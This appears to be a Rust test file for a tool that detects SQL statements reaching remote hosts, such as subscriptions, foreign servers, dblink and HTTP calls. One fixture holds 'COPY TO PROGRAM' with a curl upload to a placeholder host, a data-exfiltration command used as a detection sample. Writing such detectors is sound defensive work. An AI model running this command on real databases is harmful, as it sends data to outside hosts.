use super::*;

fn remotes(text: &str) -> Vec<String> {
    statements(text)
        .iter()
        .flat_map(Statement::remotes)
        .map(|remote| format!("{}: {:?}", remote.what, remote.target))
        .collect()
}

#[test]
fn statements_that_connect_are_found() {
    let text = "-- CREATE SUBSCRIPTION c CONNECTION 'host=no'\nCREATE SUBSCRIPTION s CONNECTION 'host=10.0.0.1 dbname=x' PUBLICATION p;\n\
        create server f foreign data wrapper postgres_fdw options (host 'db.example', port '5432');\n\
        select dblink_connect('c', 'host=a.example user=x');\nselect net.http_post(url := 'https://h' || '.example/x', body := '{}');\n\
        COPY t TO PROGRAM 'curl -T - https://x.example';";
    assert_eq!(
        remotes(text),
        [
            "CREATE SUBSCRIPTION: Address(\"10.0.0.1\")",
            "CREATE SERVER: Address(\"db.example\")",
            "dblink: Address(\"a.example\")",
            "an HTTP call: Address(\"https://h.example/x\")",
            "COPY TO PROGRAM: Program(\"curl -T - https://x.example\")"
        ]
    );
}

#[test]
fn bodies_of_functions_are_read_and_their_variables_are_not_places() {
    let text = "create function f() returns void as $x$ begin perform net.http_get('http://a.example'); perform net.http_get(address, params); end $x$;";
    assert_eq!(
        remotes(text),
        ["an HTTP call: Address(\"http://a.example\")"]
    );
    assert_eq!(
        remotes("create subscription s connection :'c' publication p"),
        ["CREATE SUBSCRIPTION: Unknown(\":c\")"]
    );
    assert_eq!(
        remotes("select 'create subscription'; create publication p;"),
        Vec::<String>::new()
    );
}

#[test]
fn connection_strings_have_hosts() {
    assert_eq!(hosts("host=a,b port=1"), ["a", "b"]);
    assert_eq!(hosts("postgres://u:p@c:5432/d"), ["c:5432"]);
    assert_eq!(hosts("host=/var/run"), Vec::<String>::new());
    assert_eq!(hosts("db.example"), ["db.example"]);
}

#[test]
fn strange_texts_end() {
    for text in ["'", "$$", "$a", ":", ":'", "\"", "/*", "é:'x", "$é$"] {
        let found = statements(text).len();
        assert!(found <= text.len(), "{text} has {found} statements");
    }
}
